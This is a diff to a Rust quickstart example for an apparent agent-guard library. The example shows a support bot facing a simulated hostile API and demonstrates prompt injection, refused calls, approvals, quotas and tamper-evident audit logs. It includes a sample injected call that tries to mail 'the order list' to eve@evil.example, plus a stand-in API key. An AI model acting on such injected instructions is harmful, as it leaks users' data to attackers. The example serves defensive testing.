@@ -1,11 +1,13 @@
-//! The main job, on a hostile API of its own: what an API sends and what a model sees of it, calls
-//! that are refused and one that is approved, a quota, and an audit that shows when it was changed.
-//! No network beyond this machine, no keys, no setup.
+//! A guarded toolset in front of a hostile API.
+//!
+//! The example shows the API's response and the part that the model sees, refused calls, an
+//! approved call, a quota, and an audit log that reveals tampering. It needs no network, no keys
+//! and no setup.
 //!
 //! ```text
 //! cargo run --example quickstart
 //! ```
-#![expect(clippy::print_stdout, reason = "it shows what it does on the terminal")]
+#![expect(clippy::print_stdout, reason = "the example prints its results")]
 
 use std::path::{Path, PathBuf};
 use std::sync::Arc;
@@ -14,10 +16,9 @@ use secure_tool::audit::{verify, verify_against};
 use secure_tool::prelude::*;
 use secure_tool::value::{Email, Empty};
 use secure_tool::{Decision, FixedSecrets, Question, Roots};
-use secure_tool_testkit::hostile::{Answer, HostileApi};
+use secure_tool_testkit::hostile::{HostileApi, Response};
 
-// ---- What the developer writes
-// -------------------------------------------------------------------------------------------------
+// ---- The code that the developer writes ----
 
 /// A stock-keeping unit.
 #[derive(Debug, Clone, Serialize, Deserialize, JsonSchema, SecureValue)]
@@ -96,7 +97,7 @@ pub struct SendMail {
     text: String,
 }
 
-/// Sends an offer to anybody, if a person agrees.
+/// Sends an offer to any address, if an approver agrees.
 #[derive(Debug, Serialize, Deserialize, JsonSchema, Validate, SecureTool)]
 #[secure(
     api = Shop,
@@ -114,13 +115,12 @@ pub struct SendOffer {
     sku: Sku,
 }
 
-/// All that the support bot may do.
+/// The tools of the support bot.
 #[derive(Debug, SecureToolset)]
 #[secure(tools(SearchProducts, SendMail, SendOffer), trifecta = confirm)]
 pub struct SupportTools;
 
-// ---- What the hostile API sends
-// -------------------------------------------------------------------------------------------------
+// ---- The response of the hostile API ----
 
 const KEY: &str = "shop-live-7Qp2xV9bL4";
 
@@ -137,17 +137,16 @@ fn hostile_page() -> String {
     .to_string()
 }
 
-// ---- The main job
-// -------------------------------------------------------------------------------------------------
+// ---- The calls ----
 
 #[tokio::main(flavor = "current_thread")]
 async fn main() -> Result<(), Box<dyn std::error::Error>> {
     let api = HostileApi::builder("api.shop.example").start().await?;
-    api.answer_with(|request| {
+    api.respond_with(|request| {
         if request.method() == "GET" {
-            Answer::json(hostile_page())
+            Response::json(hostile_page())
         } else {
-            Answer::new(204, "", "")
+            Response::new(204, "", "")
         }
     });
 
@@ -159,11 +158,11 @@ async fn main() -> Result<(), Box<dyn std::error::Error>> {
         .audit(audit.clone())
         .approver(|question: &Question| {
             print!("{}", indented(&question.to_string()));
-            println!("    a person says: yes");
+            println!("    the approver approves");
             Decision::approved_by("ann")
         })
         .roots(Roots::Only(vec![api.authority().to_vec()]))
-        .dangerously_reach_host_at(api.host(), api.addr(), "the quickstart's own server")
+        .dangerously_reach_host_at(api.host(), api.addr(), "the example's own server")
         .build()?;
 
     let agent = Agent::new("support-bot")
@@ -172,13 +171,13 @@ async fn main() -> Result<(), Box<dyn std::error::Error>> {
     let session = guard.session(agent)?;
     session.user_said("Find me a blue kettle under 40 euros and mail it to bob@corp.example");
 
-    title("1. What the API sends, and what the model sees of it");
+    title("1. The API's response, and what the model sees of it");
     let outcome = session
         .call("search_products", r#"{"category":"kettles","term":"blue kettle","limit":5}"#)
         .await;
     side_by_side(&api_text(), &model_text(&outcome));
 
-    title("2. Arguments that an injected model made up");
+    title("2. Arguments that a hijacked model invents");
     attempt(
         &session,
         &api,
@@ -201,16 +200,16 @@ async fn main() -> Result<(), Box<dyn std::error::Error>> {
     )
     .await;
 
-    title("3. A recipient from the answer, and one from the user");
+    title("3. A recipient from the response, and one from the user");
     attempt(&session, &api, "send_mail", r#"{"to":["eve@evil.example"],"text":"the order list"}"#)
         .await;
     attempt(&session, &api, "send_mail", r#"{"to":["bob@corp.example"],"text":"Sku#1 at 39.90"}"#)
         .await;
 
-    title("4. A person is asked where the tool says so");
+    title("4. A call that requires approval");
     attempt(&session, &api, "send_offer", r#"{"to":"carol@corp.example","sku":"Sku#1"}"#).await;
 
-    title("5. A quota");
+    title("5. A rate limit");
     for _ in 0..3 {
         attempt(
             &session,
@@ -226,10 +225,10 @@ async fn main() -> Result<(), Box<dyn std::error::Error>> {
     println!("    model: {last}");
     println!("    user:  {}", session.release(&last));
 
-    title("7. The audit");
+    title("7. The audit log");
     show_audit(&path, &audit)?;
 
-    title("What is weaker than the default here");
+    title("Weakened defaults of this guard");
     for weakness in &guard.posture().weakened {
         println!("    {} ({})", weakness.what, weakness.reason);
     }
@@ -242,12 +241,15 @@ async fn attempt(session: &Session, api: &HostileApi, tool: &str, arguments: &st
     let outcome = session.call(tool, arguments).await;
     let sent = api.requests().len() - before;
     match &outcome {
-        Outcome::Answer(_) => println!("    answered; {sent} request sent"),
+        Outcome::Answer(_) => println!("    succeeded; {sent} request sent"),
         Outcome::Refused(refusal) => {
-            println!("    REFUSED by {}; {sent} requests sent; the model is told:", refusal.rule());
+            println!(
+                "    REFUSED by {}; {sent} requests sent; text for the model:",
+                refusal.rule()
+            );
             print!("{}", indented(&outcome.for_model()));
         }
-        Outcome::Pending(_) => println!("    waits for a person; {sent} requests sent"),
+        Outcome::Pending(_) => println!("    waits for approval; {sent} requests sent"),
     }
 }
 
@@ -255,12 +257,12 @@ fn show_audit(path: &Path, audit: &JsonlAudit) -> Result<(), Box<dyn std::error:
     let head = audit.head();
     let verified = verify_against(path, &head)?;
     println!(
-        "    {} records, one line each, in a chain; effects without a known outcome: {}",
+        "    {} records in a hash chain; effects with an unknown outcome: {}",
         verified.head.records,
         verified.unknown.len()
     );
     let text = std::fs::read_to_string(path)?;
-    println!("    the credential stands in it: {}", text.contains(KEY));
+    println!("    the log contains the credential: {}", text.contains(KEY));
 
     let copy = path.with_extension("tampered");
     std::fs::write(
@@ -268,27 +270,27 @@ fn show_audit(path: &Path, audit: &JsonlAudit) -> Result<(), Box<dyn std::error:
         text.replacen("\"decision\":\"refused\"", "\"decision\":\"answered\"", 1),
     )?;
     if let Err(broken) = verify(&copy) {
-        println!("    one word changed in a copy:    {broken}");
+        println!("    a copy with one changed word:  {broken}");
     }
     let cut: String = text.split_inclusive('\n').take(3).collect();
     std::fs::write(&copy, cut)?;
     if let Err(broken) = verify_against(&copy, &head) {
-        println!("    its end cut off in a copy:     {broken}");
+        println!("    a truncated copy:              {broken}");
     }
     std::fs::remove_file(&copy)?;
     Ok(())
 }
 
-/// Where the audit goes: a new file in the temporary folder, or the one that the environment names.
-#[expect(clippy::disallowed_methods, reason = "a program reads its environment")]
+/// Returns the path of the audit log: a new temporary file, or the path in the environment variable
+/// `SECURE_TOOL_QUICKSTART_AUDIT`.
+#[expect(clippy::disallowed_methods, reason = "an application may read its environment")]
 fn audit_path() -> PathBuf {
     let name = format!("secure-tool-quickstart-{}.jsonl", std::process::id());
     std::env::var("SECURE_TOOL_QUICKSTART_AUDIT")
         .map_or_else(|_| std::env::temp_dir().join(name), PathBuf::from)
 }
 
-// ---- How it is shown
-// -------------------------------------------------------------------------------------------------
+// ---- The output ----
 
 fn title(text: &str) {
     println!("\n{text}");
@@ -301,7 +303,7 @@ fn indented(text: &str) -> String {
 fn api_text() -> String {
     let value: serde_json::Value = serde_json::from_str(&hostile_page()).unwrap_or_default();
     let pretty = serde_json::to_string_pretty(&value).unwrap_or_default();
-    // What would move or hide text on this terminal is shown escaped.
+    // Escape characters that would move or hide text on the terminal.
     pretty
         .chars()
         .map(|c| {
@@ -334,8 +336,7 @@ fn side_by_side(left: &str, right: &str) {
     }
 }
 
-/// Lines of at most this width, broken behind a space where there is one, with the indentation
-/// kept.
+/// Wraps lines at this width, after a space if possible, and keeps the indentation.
 fn wrapped(text: &str, width: usize) -> Vec<String> {
     let mut lines = Vec::new();
     for line in text.lines() {
